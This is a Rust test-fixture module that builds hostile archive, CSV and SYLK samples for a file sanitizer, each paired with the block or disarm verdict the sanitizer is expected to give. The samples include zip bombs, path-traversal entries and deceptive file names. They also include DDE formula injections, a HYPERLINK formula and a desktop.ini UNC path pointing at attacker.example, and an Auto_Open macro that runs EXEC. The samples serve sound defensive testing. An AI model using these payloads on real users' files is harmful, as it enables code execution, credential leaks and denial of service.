//! Zip archives and disguised files, one per row of the containers and gate checklist: a macro
//! document two zips deep, programs and scripts under document names, names that lie (right-to-
//! left override, double and class-id extensions), the "PPAP" password zip, bombs (declared,
//! lying about their size, overlapping), a zip nested 20 deep, 10 000 tiny entries, names in
//! Shift_JIS, and the structural tricks the reader refuses.
//!
//! Well-formed archives are written with the zip crate (fixed times, UTF-8 names); the tricks
//! need control it does not give, so those are assembled with [`hostile::raw_zip`].

use super::hostile::{self, deflate_with_run, raw_zip, raw_zip_named, RawEntry};
use super::media::{self, Prng};
use super::package::ct;
use super::{pdf, word, Expected, Sample};
use crate::model::{ActionKind, Reason};
use std::io::{Cursor, Write};
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, DateTime};

/// The time every entry of these samples carries: 2026-04-01 09:30:00.
pub fn sample_time() -> DateTime {
    DateTime::from_date_and_time(2026, 4, 1, 9, 30, 0).unwrap_or_default()
}

/// A zip of `(name, bytes)` entries (a name ending in `/` is a folder), deflated, all dated
/// [`sample_time`].
pub fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = SimpleFileOptions::default()
        .compression_method(CompressionMethod::Deflated)
        .last_modified_time(sample_time())
        .unix_permissions(0o644);
    for (name, data) in entries {
        if name.ends_with('/') {
            w.add_directory(*name, opts).expect("folder");
        } else {
            w.start_file(*name, opts).expect("entry");
            w.write_all(data).expect("write");
        }
    }
    w.finish().expect("finish").into_inner()
}

/// A short text file.
const README: &[u8] = "Maintenance notes for ward 3.\r\n保守作業の記録です。\r\n".as_bytes();

/// A Windows Script Host file, text that runs when double-clicked under a `.js` name.
const WSH_SCRIPT: &[u8] = b"WScript.Echo(\"mugai sample: this would run\");\r\n";

pub fn benign_bundle() -> Vec<u8> {
    zip_of(&[
        ("報告書/", b""),
        ("報告書/月次報告.docx", &word::benign()),
        ("報告書/scan.png", &media::sample_png()),
        ("報告書/letter.pdf", &pdf::benign()),
        ("readme.txt", README),
    ])
}

/// A bundle of 40 entries for the benchmarks: ten each of docx, pdf, png and notes, in folders.
pub fn bundle_40() -> Vec<u8> {
    let (docx, pdf, png) = (word::benign(), pdf::benign(), media::sample_png());
    let names: Vec<(String, &[u8])> = (0..10)
        .flat_map(|i| {
            [
                (format!("報告書/{i:02}.docx"), &docx[..]),
                (format!("letters/{i:02}.pdf"), &pdf[..]),
                (format!("scans/{i:02}.png"), &png[..]),
                (format!("notes/{i:02}.txt"), README),
            ]
        })
        .collect();
    let entries: Vec<(&str, &[u8])> = names.iter().map(|(n, d)| (n.as_str(), *d)).collect();
    zip_of(&entries)
}

/// A zip made on a Mac and a Windows folder: resource forks, folder settings, a thumbnail
/// cache, next to one real document.
pub fn system_files() -> Vec<u8> {
    let fork: &[u8] = &[0, 5, 0x16, 7, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    let mut ds_store = vec![0, 0, 0, 1];
    ds_store.extend_from_slice(b"Bud1");
    ds_store.resize(64, 0);
    zip_of(&[
        ("写真/", b""),
        ("写真/scan.png", &media::sample_png()),
        ("写真/.DS_Store", &ds_store),
        ("写真/Thumbs.db", &media::compound_file(&[], &[("Catalog", b"thumbnails")])),
        ("写真/desktop.ini", b"[.ShellClassInfo]\r\nIconResource=\\\\attacker.example\\share\\icon.ico,0\r\n"),
        ("__MACOSX/", b""),
        ("__MACOSX/写真/", b""),
        ("__MACOSX/写真/._scan.png", fork),
    ])
}

/// Names written in Shift_JIS without the UTF-8 flag, as Japanese Windows writes them; `ソ` and
/// `表` end in the byte 0x5C, a backslash in ASCII.
pub fn shift_jis_names() -> Vec<u8> {
    let (sjis, _, _) = encoding_rs::SHIFT_JIS.encode("ソフト仕様.txt");
    let (sjis_dir, _, _) = encoding_rs::SHIFT_JIS.encode("表計算/売上.csv");
    let a = RawEntry::stored("a", "仕様書の本文\r\n".as_bytes());
    let b = RawEntry::stored("b", b"month,total\r\n4,120\r\n");
    raw_zip_named([(&sjis[..], &a), (&sjis_dir[..], &b)].into_iter())
}

/// A macro document in a zip in a zip.
pub fn docm_two_deep() -> Vec<u8> {
    let inner = zip_of(&[("請求書.docm", &word::vba(ct::DOCM_MAIN)), ("readme.txt", README)]);
    zip_of(&[("inner.zip", &inner)])
}

/// A program named like a PDF, next to a harmless text.
pub fn exe_named_pdf_in_zip() -> Vec<u8> {
    zip_of(&[("invoice.pdf", &hostile::executable()), ("readme.txt", README)])
}

/// Names that lie: a right-to-left override that shows `invoiceexe.pdf`, on a program, and one
/// that shows `phototxt.jpg`, on a text.
pub fn rtl_names() -> Vec<u8> {
    zip_of(&[
        ("invoice\u{202E}fdp.exe", &hostile::executable()),
        ("photo\u{202E}gpj.txt", README),
        ("readme.txt", README),
    ])
}

/// A script and a program behind document extensions, and a class-id extension.
pub fn double_extensions() -> Vec<u8> {
    zip_of(&[
        ("invoice.pdf.js", WSH_SCRIPT),
        ("見積書.xlsx          .scr", &hostile::executable()),
        ("readme.txt.{3050F4D8-98B5-11CF-BB82-00AA00BDCE0B}", README),
        ("readme.txt", README),
    ])
}

/// The "PPAP" habit: a zip whose entry is encrypted with a password sent in the next mail.
pub fn ppap_encrypted() -> Vec<u8> {
    let doc = word::benign();
    let mut e = RawEntry::stored("見積書.docx", &doc);
    e.data = hostile::zip_crypto_encrypt(b"password", e.crc, &doc);
    e.flags |= 1 | 0x0800;
    raw_zip(&[e])
}

/// The password of the password-zip samples below.
pub const PPAP_PASSWORD: &str = "Hosp-2026!";

/// Entry `(name, bytes)` deflated and encrypted with ZipCrypto under `password` (as bytes, so
/// Shift_JIS passwords can be given).
pub fn zip_crypto_entry(name: &str, plain: &[u8], password: &[u8]) -> RawEntry {
    let deflated = deflate(plain);
    let crc = crc32fast::hash(plain);
    RawEntry {
        name: name.into(),
        method: 8,
        flags: 1 | 0x0800,
        crc,
        uncompressed_size: plain.len() as u32,
        data: hostile::zip_crypto_encrypt(password, crc, &deflated),
    }
}

fn deflate(plain: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(plain).expect("deflate");
    e.finish().expect("deflate")
}

/// A macro document and a note in a ZipCrypto password zip, as PPAP mail carries them.
pub fn ppap_docm() -> Vec<u8> {
    let docm = word::vba(ct::DOCM_MAIN);
    let pw = PPAP_PASSWORD.as_bytes();
    raw_zip(&[zip_crypto_entry("請求書.docm", &docm, pw), zip_crypto_entry("readme.txt", README, pw)])
}

/// The same in a WinZip AES zip (`mode` picks the key length), written by the zip crate.
pub fn ppap_aes(mode: zip::AesMode) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = SimpleFileOptions::default()
        .compression_method(CompressionMethod::Deflated)
        .last_modified_time(sample_time())
        .with_aes_encryption(mode, PPAP_PASSWORD);
    for (name, data) in [("請求書.docm", word::vba(ct::DOCM_MAIN)), ("readme.txt", README.to_vec())] {
        w.start_file(name, opts).expect("entry");
        w.write_all(&data).expect("write");
    }
    w.finish().expect("finish").into_inner()
}

/// A password zip as Japanese Windows writes it: the name and the password in Shift_JIS, one
/// entry left unencrypted.
pub fn ppap_shift_jis() -> (Vec<u8>, Vec<u8>) {
    let name = encoding_rs::SHIFT_JIS.encode("見積書.txt").0.into_owned();
    let password = encoding_rs::SHIFT_JIS.encode("見積2026").0.into_owned();
    let mut secret = zip_crypto_entry("x", "見積金額: 120,000円\r\n".as_bytes(), &password);
    secret.flags = 1;
    let open = RawEntry::stored("readme.txt", README);
    (raw_zip_named([(&name[..], &secret), (&b"readme.txt"[..], &open)].into_iter()), name)
}

/// A zip bomb behind a password: the bomb entry of [`declared_bomb`] (declaring its 200 MiB
/// honestly) or of [`lying_bomb`] (declaring 4 KiB), encrypted with ZipCrypto.
pub fn ppap_bomb(honest: bool) -> Vec<u8> {
    let declared = if honest { (BOMB_BYTES + 21) as u32 } else { 4096 };
    let mut e = bomb_entry("zeros.txt", declared);
    e.data = hostile::zip_crypto_encrypt(PPAP_PASSWORD.as_bytes(), e.crc, &e.data);
    e.flags |= 1;
    raw_zip(&[e])
}

/// Bytes the deflate stream expands to: 200 MiB of spaces behind a line of text.
const BOMB_BYTES: usize = 200 * 1024 * 1024;

fn bomb_entry(name: &str, declared: u32) -> RawEntry {
    let prefix = b"nothing to see here\r\n";
    let mut crc = crc32fast::Hasher::new();
    crc.update(prefix);
    let mut mib = crc32fast::Hasher::new();
    mib.update(&vec![b' '; 1024 * 1024]);
    for _ in 0..BOMB_BYTES / (1024 * 1024) {
        crc.combine(&mib);
    }
    RawEntry {
        name: name.into(),
        method: 8,
        flags: 0,
        crc: crc.finalize(),
        uncompressed_size: declared,
        data: deflate_with_run(prefix, b' ', BOMB_BYTES),
    }
}

/// A zip bomb that says what it is: 200 KiB declaring 200 MiB.
pub fn declared_bomb() -> Vec<u8> {
    raw_zip(&[bomb_entry("zeros.txt", (BOMB_BYTES + 21) as u32)])
}

/// A zip bomb that lies: it declares 4 KiB and inflates to 200 MiB.
pub fn lying_bomb() -> Vec<u8> {
    raw_zip(&[bomb_entry("small.txt", 4096)])
}

/// Many central directory entries pointing at one local entry's data (the overlapping-entries
/// bomb: each entry expands the same compressed bytes again).
pub fn overlapping_bomb() -> Vec<u8> {
    let one = raw_zip(&[RawEntry::stored("a.txt", README)]);
    // Split the single-entry archive into its local part and its central record, then repeat
    // the central record with other names, all pointing at offset 0.
    let cd_start =
        u32::from_le_bytes([one[one.len() - 6], one[one.len() - 5], one[one.len() - 4], one[one.len() - 3]]) as usize;
    let local = &one[..cd_start];
    let record = &one[cd_start..one.len() - 22];
    let mut out = local.to_vec();
    let mut central = Vec::new();
    let count = 16u16;
    for i in 0..count {
        let mut r = record.to_vec();
        let name_at = r.len() - 5;
        r[name_at] = b'a' + i as u8;
        central.extend_from_slice(&r);
    }
    out.extend_from_slice(&central);
    out.extend_from_slice(&0x0605_4B50u32.to_le_bytes());
    out.extend_from_slice(&[0, 0, 0, 0]);
    out.extend_from_slice(&count.to_le_bytes());
    out.extend_from_slice(&count.to_le_bytes());
    out.extend_from_slice(&(central.len() as u32).to_le_bytes());
    out.extend_from_slice(&(cd_start as u32).to_le_bytes());
    out.extend_from_slice(&[0, 0]);
    out
}

/// A text file in a zip in a zip ... 20 levels deep.
pub fn nested_20_deep() -> Vec<u8> {
    let mut data = zip_of(&[("bottom.txt", README)]);
    for level in (1..20).rev() {
        let name = format!("level{level:02}.zip");
        data = zip_of(&[(name.as_str(), &data)]);
    }
    data
}

/// 10 000 tiny text entries (stored: each is two bytes).
pub fn ten_thousand_entries() -> Vec<u8> {
    let entries: Vec<RawEntry> =
        (0..10_000).map(|i| RawEntry::stored(&format!("{i:04}.txt"), format!("{}\n", i % 10).as_bytes())).collect();
    raw_zip(&entries)
}

pub fn path_traversal() -> Vec<u8> {
    raw_zip(&[RawEntry::stored("readme.txt", README), RawEntry::stored("../../Startup/run.txt", README)])
}

pub fn absolute_path() -> Vec<u8> {
    raw_zip(&[RawEntry::stored("/etc/cron.d/job", README)])
}

pub fn duplicate_names() -> Vec<u8> {
    raw_zip(&[RawEntry::stored("report.txt", README), RawEntry::stored("REPORT.TXT", WSH_SCRIPT)])
}

/// An entry compressed with bzip2 (method 12), which mugai does not read.
pub fn unsupported_method() -> Vec<u8> {
    const EMPTY_BZIP2: [u8; 14] = [0x42, 0x5A, 0x68, 0x39, 0x17, 0x72, 0x45, 0x38, 0x50, 0x90, 0, 0, 0, 0];
    let mut e = RawEntry::stored("data.txt", b"");
    e.method = 12;
    e.data = EMPTY_BZIP2.to_vec();
    raw_zip(&[e])
}

/// A Java archive under a zip name: a program.
pub fn jar_named_zip() -> Vec<u8> {
    let mut class = vec![0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52];
    class.resize(64, 0);
    zip_of(&[("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nMain-Class: App\r\n"), ("App.class", &class)])
}

/// A zip with a payload hidden after its end record.
pub fn trailing_payload() -> Vec<u8> {
    let mut z = zip_of(&[("readme.txt", README)]);
    z.extend_from_slice(&hostile::executable());
    z
}

/// A RAR archive: no maintained pure-Rust reader, so it is refused.
pub fn rar() -> Vec<u8> {
    let mut d = b"Rar!\x1a\x07\x01\x00".to_vec();
    d.extend(Prng::new(7).bytes(200));
    d
}

/// A patient list in Shift_JIS with negative numbers and phone numbers: nothing a spreadsheet
/// runs, kept byte for byte.
pub fn benign_csv() -> Vec<u8> {
    let text =
        "患者番号,氏名,電話,残高\r\n1001,山田 太郎,+81-3-1234-5678,-500\r\n1002,\"佐藤, 花子\",03-9876-5432,1200\r\n";
    encoding_rs::SHIFT_JIS.encode(text).0.into_owned()
}

/// Cells that run when the file is opened in a spreadsheet: DDE to cmd, in the usual and the
/// `@`-prefixed form, and a HYPERLINK formula.
pub fn dde_csv() -> Vec<u8> {
    b"name,amount,note\r\n\
      Yamada,100,=cmd|' /C calc'!A0\r\n\
      Sato,200,\"@SUM(1+1)*cmd|' /C calc'!A0\"\r\n\
      Suzuki,-300,=HYPERLINK(\"http://attacker.example/x\",\"details\")\r\n"
        .to_vec()
}

/// A SYLK file that is a macro sheet run by `Auto_Open`.
pub fn macro_sylk() -> Vec<u8> {
    b"ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;K0;EEXEC(\"calc.exe\")\r\nC;X1;Y2;K0;EHALT()\r\n\
      C;X2;Y1;K\"Total\"\r\nC;X2;Y2;K42\r\nE\r\n"
        .to_vec()
}

/// Text as Excel saves "Unicode text": UTF-16 little-endian with a byte order mark, tabs.
pub fn utf16(text: &str) -> Vec<u8> {
    [0xFF, 0xFE].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect()
}

pub fn benign_sylk() -> Vec<u8> {
    b"ID;PWXL;N;E\r\nP;PGeneral\r\nF;P0;DG0G10;M320\r\nB;Y2;X2;D0 0 1 1\r\nC;Y1;X1;K\"Total\"\r\nC;Y2;X1;K42\r\nE\r\n"
        .to_vec()
}

pub fn all() -> Vec<Sample> {
    use ActionKind::*;
    let s = |file_name, bytes, expected| Sample { file_name, bytes, expected };
    let dropped = Expected::disarmed("zip", &[RemovedBlockedEntry]);
    vec![
        s("benign_bundle.zip", benign_bundle(), Expected::clean("zip")),
        s("shift_jis_names.zip", shift_jis_names(), Expected::clean("zip")),
        s("docm_two_deep.zip", docm_two_deep(), Expected::disarmed("zip", &[RemovedVbaProject, ConvertedToMacroFree])),
        s("exe_named_pdf.zip", exe_named_pdf_in_zip(), dropped.clone()),
        s("rtl_names.zip", rtl_names(), dropped.clone()),
        s("double_extensions.zip", double_extensions(), dropped),
        s("system_files.zip", system_files(), Expected::disarmed("zip", &[RemovedArchiveMetadata])),
        s("trailing_payload.zip", trailing_payload(), Expected::disarmed("zip", &[RemovedArchiveMetadata])),
        s("ten_thousand_entries.zip", ten_thousand_entries(), Expected::clean("zip")),
        s("ppap_encrypted.zip", ppap_encrypted(), Expected::blocked(Reason::Encrypted)),
        s("declared_bomb.zip", declared_bomb(), Expected::blocked(Reason::LimitRatio)),
        s("lying_bomb.zip", lying_bomb(), Expected::blocked(Reason::Malformed)),
        s("overlapping_bomb.zip", overlapping_bomb(), Expected::blocked(Reason::OverlappingEntries)),
        s("nested_20_deep.zip", nested_20_deep(), Expected::blocked(Reason::LimitDepth)),
        s("path_traversal.zip", path_traversal(), Expected::blocked(Reason::PathTraversal)),
        s("absolute_path.zip", absolute_path(), Expected::blocked(Reason::PathTraversal)),
        s("duplicate_names.zip", duplicate_names(), Expected::blocked(Reason::DuplicateEntry)),
        s("unsupported_method.zip", unsupported_method(), Expected::blocked(Reason::UnsupportedCompression)),
        s("jar_named.zip", jar_named_zip(), Expected::blocked(Reason::Executable)),
        s("archive.rar", rar(), Expected::blocked(Reason::Unsupported)),
        s("pe_renamed.pdf", hostile::executable(), Expected::blocked(Reason::Executable)),
        s("invoice\u{202E}fdp.exe", hostile::executable(), Expected::blocked(Reason::Executable)),
        s("update.bat", b"@echo off\r\necho mugai sample\r\n".to_vec(), Expected::blocked(Reason::Executable)),
        s(
            "maintenance.txt",
            b"@echo off\r\necho a batch file named as notes\r\n".to_vec(),
            Expected::blocked(Reason::Executable),
        ),
        s("notes.txt.js", WSH_SCRIPT.to_vec(), Expected::blocked(Reason::DangerousName)),
        s("patients_sjis.csv", benign_csv(), Expected::kept("csv")),
        s("dde_injection.csv", dde_csv(), Expected::disarmed("csv", &[RemovedDdeFormula, RemovedExternalFormula])),
        s("export_utf16.txt", utf16("氏名\t点数\r\n山田 太郎\t90\r\n"), Expected::kept("txt")),
        s(
            "dde_utf16.txt",
            utf16("氏名\t点数\r\n山田 太郎\t=cmd|' /C calc'!A0\r\n"),
            Expected::disarmed("txt", &[RemovedDdeFormula]),
        ),
        s("benign.slk", benign_sylk(), Expected::kept("slk")),
        s(
            "macro_sheet.slk",
            macro_sylk(),
            Expected::disarmed("slk", &[RemovedMacroSheet, RemovedAutoMacroName, RemovedExternalFormula]),
        ),
    ]
}
